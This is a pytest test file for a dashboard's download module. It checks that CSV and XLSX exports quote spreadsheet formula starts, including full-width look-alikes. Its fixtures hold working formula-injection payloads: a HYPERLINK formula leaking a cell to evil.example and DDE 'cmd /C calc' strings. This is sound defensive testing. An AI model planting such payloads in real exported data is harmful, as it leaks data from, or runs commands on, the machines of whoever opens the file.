"""Downloads: every file the app hands out is neutralised against spreadsheet formula injection.

The pure functions are checked by reading their output back (openpyxl for XLSX, plain text for CSV);
the pages are checked by running them with AppTest on a store holding hostile text and opening
every download they offer.
"""

from __future__ import annotations

import io
import re
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from dashboard import downloads, store
from tests.apptest_helpers import goto, open_page

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["光伏组件项目", "—", "a=b", "2024-2026", "O'Brien & 合伙人"]


def frame() -> pd.DataFrame:
    n = len(HOSTILE) + len(HARMLESS)
    return pd.DataFrame({
        "name": HOSTILE + HARMLESS,
        "amount": [-1.5, 2.0, 0.0, 3.25, -7.0, 1e9, 4.0, 5.0, 6.0, 7.0, float("nan")][:n],
        "count": list(range(-3, n - 3)),
        "=SUM(A1)": ["x"] * n,  # a hostile column header
    })


def test_neutralise_quotes_exactly_the_formula_starts() -> None:
    out = downloads.neutralise(frame())
    assert out["name"].tolist() == ["'" + h for h in HOSTILE] + HARMLESS
    assert list(out.columns) == ["name", "amount", "count", "'=SUM(A1)"]
    assert out["amount"].dtype == "float64" and out["count"].dtype == "int64"  # numbers stay numbers
    assert out["count"].iloc[0] == -3


def test_csv_is_utf8_with_bom_and_quoted_formulas() -> None:
    data = downloads.csv_bytes(frame())
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    back = pd.read_csv(io.StringIO(text))
    assert back["name"].tolist()[: len(HOSTILE)] == ["'" + h for h in HOSTILE]
    assert back["name"].tolist()[len(HOSTILE):] == HARMLESS
    assert back["count"].tolist()[0] == -3  # a negative number is written as a number
    # no field anywhere in the text starts with a formula character
    raw = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False, header=None)
    for line in raw.itertuples(index=False):
        for cell in line:
            assert not re.match(r"[=+@\t\r]", cell) and not re.match(r"-[^\d]", cell)


def test_csv_of_batches_has_one_header() -> None:
    parts = [frame().iloc[:4], frame().iloc[4:]]
    text = downloads.csv_bytes(iter(parts)).decode("utf-8-sig")
    assert text.count("'=SUM(A1)") == 1
    assert len(pd.read_csv(io.StringIO(text))) == len(frame())


def test_xlsx_has_no_formula_cells_and_keeps_numbers() -> None:
    f = frame()
    f.loc[len(f) - 1, "name"] = "NUL\x00 and bell\x07 inside"  # characters XML cannot hold
    wb = load_workbook(io.BytesIO(downloads.xlsx_bytes(f)))
    rows = list(wb.active.iter_rows())
    assert all(c.data_type != "f" for r in rows for c in r)
    assert [c.value for c in rows[0]] == ["name", "amount", "count", "'=SUM(A1)"]
    names = [r[0].value for r in rows[1:]]
    assert names[: len(HOSTILE) - 1] == ["'" + h for h in HOSTILE[:-1]]
    assert names[len(HOSTILE) - 1].startswith("'") and names[len(HOSTILE) - 1].endswith("=1+1")  # \r read as \n
    assert names[-1] == "NUL and bell inside"
    assert rows[1][1].data_type == "n" and rows[1][1].value == -1.5
    assert rows[1][2].value == -3


# Full-width and other compatibility forms of = + - @: spreadsheet programs in CJK locales may fold them
# into the ASCII forms (and so into a formula) as the cell is entered or imported.
WIDE_HOSTILE = ["＝HYPERLINK(\"http://evil.example\",\"点击\")", "＋cmd|' /C calc'!A0", "－2＋3", "＠SUM(1)",
                "﹦1+1", "﹢1", "﹣1", "﹫SUM(1)", "⁼1+1", "₊1"]
WIDE_HARMLESS = ["项目＝示例", "（＋）", "—", "Ａ＝Ｂ", "１２３"]


def test_formula_starts_are_every_compatibility_form_of_the_formula_characters() -> None:
    """FORMULA_START is = + - @ tab CR and every character whose NFKC form starts with one of = + - @
    (derived here from the Unicode database, so a newly listed look-alike cannot be missed)."""
    import sys
    import unicodedata

    derived = {chr(c) for c in range(sys.maxunicode + 1)
               if unicodedata.normalize("NFKC", chr(c))[:1] in ("=", "+", "-", "@")}
    assert set(downloads.FORMULA_START) == derived | {"\t", "\r"}
    assert {"＝", "＋", "－", "＠"} <= derived


def test_full_width_formula_starts_are_quoted_in_csv_and_xlsx() -> None:
    f = pd.DataFrame({"name": WIDE_HOSTILE + WIDE_HARMLESS,
                      "amount": [float(-i) for i in range(len(WIDE_HOSTILE) + len(WIDE_HARMLESS))],
                      "＝列名": ["x"] * (len(WIDE_HOSTILE) + len(WIDE_HARMLESS))})
    # CSV, read as text: every hostile cell quoted, the harmless ones and the numbers as they were.
    text = downloads.csv_bytes(f).decode("utf-8-sig")
    raw = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert list(raw.columns) == ["name", "amount", "'＝列名"]
    assert raw["name"].tolist() == ["'" + h for h in WIDE_HOSTILE] + WIDE_HARMLESS
    assert raw["amount"].tolist()[1] == "-1.0"  # a negative number is still a number
    # XLSX, opened with openpyxl: no formula cell, the same texts, the numbers numeric.
    wb = load_workbook(io.BytesIO(downloads.xlsx_bytes(f)))
    rows = list(wb.active.iter_rows())
    assert all(c.data_type != "f" for r in rows for c in r)
    assert [c.value for c in rows[0]] == ["name", "amount", "'＝列名"]
    assert [r[0].value for r in rows[1:]] == ["'" + h for h in WIDE_HOSTILE] + WIDE_HARMLESS
    assert rows[2][1].data_type == "n" and rows[2][1].value == -1
    # A column of Arrow strings (the store's text columns) takes the same path as an object column.
    arrow = f.astype({"name": "string[pyarrow]"})
    assert downloads.neutralise(arrow)["name"].tolist() == ["'" + h for h in WIDE_HOSTILE] + WIDE_HARMLESS


def test_empty_frame_still_makes_valid_files() -> None:
    empty = pd.DataFrame({"name": pd.Series([], dtype=object)})
    assert downloads.csv_bytes(empty).decode("utf-8-sig").strip() == "name"
    assert list(load_workbook(io.BytesIO(downloads.xlsx_bytes(empty))).active.values) == [("name",)]


def test_no_download_bypasses_the_module() -> None:
    """The one-module rule, checked: nothing else in the app writes a download or a CSV/XLSX."""
    offenders = []
    for path in (ROOT / "dashboard").rglob("*.py"):
        if path.name == "downloads.py" or "ingest" in path.parts:  # ingest reads files and makes templates
            continue
        text = path.read_text(encoding="utf-8")
        for word in ("download_button", ".to_csv(", ".to_excel(", "Workbook("):
            if word in text:
                offenders.append(f"{path.relative_to(ROOT)}: {word}")
    assert offenders == []
    config = (ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8")
    assert re.search(r"^disableDataExport\s*=\s*true", config, re.M)  # tables' own CSV export is off


# --- the pages ---------------------------------------------------------------------------------

@pytest.fixture
def media(monkeypatch: pytest.MonkeyPatch) -> list[MediaFileManager]:
    """The media file managers AppTest creates (one per run), kept so a test can fetch what a
    download button would serve, including files generated on click."""
    import streamlit.testing.v1.app_test as app_test

    made: list[MediaFileManager] = []

    class Keeping(MediaFileManager):
        def __init__(self, *args: object, **kwargs: object) -> None:
            super().__init__(*args, **kwargs)  # type: ignore[arg-type]
            made.append(self)

    monkeypatch.setattr(app_test, "MediaFileManager", Keeping)
    return made


def served(at: AppTest, media: list[MediaFileManager]) -> dict[str, tuple[str, bytes]]:
    """{button label: (file name, bytes)} for every download button on the page, as a click gets it."""
    mgr = media[-1]
    out = {}
    for element in at.get("download_button"):
        proto = element.proto
        url = mgr.execute_deferred(proto.deferred_file_id) if proto.deferred_file_id else proto.url
        file = mgr._storage.get_file(url.rsplit("/", 1)[-1])  # type: ignore[attr-defined]
        out[f"{proto.label}#{proto.id[-12:]}"] = (file.filename or "", file.content)
    return out


def assert_neutral(name: str, data: bytes) -> list[str]:
    """Every cell of a CSV or XLSX download; fails on any cell a spreadsheet would evaluate."""
    if name.endswith(".xlsx"):
        wb = load_workbook(io.BytesIO(data))
        cells = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r]
        assert all(c.data_type != "f" for c in cells), name
        texts = [c.value for c in cells if isinstance(c.value, str)]
    else:
        assert name.endswith(".csv") and data.startswith(b"\xef\xbb\xbf"), name
        texts = [v for r in pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, header=None,
                                         keep_default_na=False).itertuples(index=False) for v in r]
    for text in texts:
        assert not text.startswith(downloads.FORMULA_START), (name, text)
    return texts


@pytest.fixture
def hostile_db(empty_db: Path) -> Path:
    con = store.connect(empty_db)
    con.execute("INSERT INTO import_batches (batch_id, file_name, status) VALUES (1, '=evil.csv', 'committed')")
    rows = [(i + 1, name, f"@owner{i}", sector, 2019 + i % 4, 2021 + i % 4, 10_000 * (i + 1))
            for i, (name, sector) in enumerate(zip(HOSTILE, ["new_energy", "biotech", "info_tech", "new_energy",
                                                             "new_materials", "smart_nev"], strict=True))]
    for pid, name, owner, sector, start, end, wan in rows:
        con.execute(
            "INSERT INTO projects (project_id, name, owner, sector, stage, start_year, end_year, "
            "total_investment_wan, province_code, ownership, batch_id) "
            "VALUES (?, ?, ?, ?, 'under_construction', ?, ?, ?, '440000', 'private', 1)",
            [pid, name, owner, sector, start, end, wan])
        con.execute("INSERT INTO project_investments VALUES (?, ?, ?, ?)", [pid, start, wan / 2, wan / 2])
    store.rollups.refresh(con)  # the raw inserts above bypass store.write, which rebuilds the rollups
    con.close()
    return empty_db


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_projects_page_downloads_are_neutralised(hostile_db: Path, monkeypatch: pytest.MonkeyPatch,
                                                 media: list[MediaFileManager], lang: str) -> None:
    at = open_page(hostile_db, monkeypatch, "projects", lang=lang)
    assert not at.exception
    files = served(at, media)
    names = sorted(n for n, _ in files.values())
    assert any(n.startswith("projects-") and n.endswith(".csv") for n in names)
    assert any(n.startswith("projects-") and n.endswith(".xlsx") for n in names)
    assert any(n.startswith("overdue-") for n in names)
    for name, data in files.values():
        texts = assert_neutral(name, data)
        if name.startswith(("projects-", "overdue-")):
            quoted = [h for h in HOSTILE[:4] if "'" + h in texts]  # names survive, behind their quote
            assert quoted == HOSTILE[:4] if name.startswith("projects-") else quoted, (name, texts)
            header = "项目名称" if lang == "zh" else "Project"
            assert any(t.startswith(header) for t in texts), (name, texts[:12])


def test_chart_and_table_downloads_are_neutralised(hostile_db: Path, monkeypatch: pytest.MonkeyPatch,
                                                   media: list[MediaFileManager]) -> None:
    at = open_page(hostile_db, monkeypatch, "summary")
    assert not at.exception
    files = served(at, media)
    kinds = {n.rsplit(".", 1)[-1] for n, _ in files.values()}
    assert {"csv", "html"} <= kinds
    quoted = False
    for name, data in files.values():
        if name.endswith(".csv"):
            quoted |= any(t == "'" + HOSTILE[0] for t in assert_neutral(name, data))
        elif name.endswith(".html"):
            assert b"<script" not in data.lower().replace(b"<script>", b"")  # names are escaped text
    assert quoted  # the top-projects table carries the hostile name, quoted
    goto(at, "sectors").run()
    assert not at.exception
    files = served(at, media)
    assert files
    for name, data in files.values():
        assert_neutral(name, data)


def test_upload_page_problem_and_review_downloads(empty_db: Path, monkeypatch: pytest.MonkeyPatch,
                                                  media: list[MediaFileManager]) -> None:
    csv = ("项目名称,建设地点,总投资,建设起止年限\n"
           '"=HYPERLINK(""http://evil.example"",""x"")",广州市,10000,2024-2026\n'
           "@SUM(1)道路改造工程,广州市,abc,2024-2025\n"
           "-酒店装修项目,广州市,5000,2024-2025\n").encode()
    at = open_page(empty_db, monkeypatch, "upload")
    at.file_uploader[0].set_value(("hostile.csv", csv, "text/csv")).run()
    assert not at.exception
    files = served(at, media)
    names = {n for n, _ in files.values()}
    assert "hostile-problems.csv" in names and "hostile-review.csv" in names
    for name, data in files.values():
        if name.endswith((".csv", ".xlsx")):
            texts = assert_neutral(name, data)
            if name == "hostile-review.csv":
                assert "'@SUM(1)道路改造工程" in texts or "'-酒店装修项目" in texts
            if name == "hostile-problems.csv":
                assert any("abc" in t for t in texts)
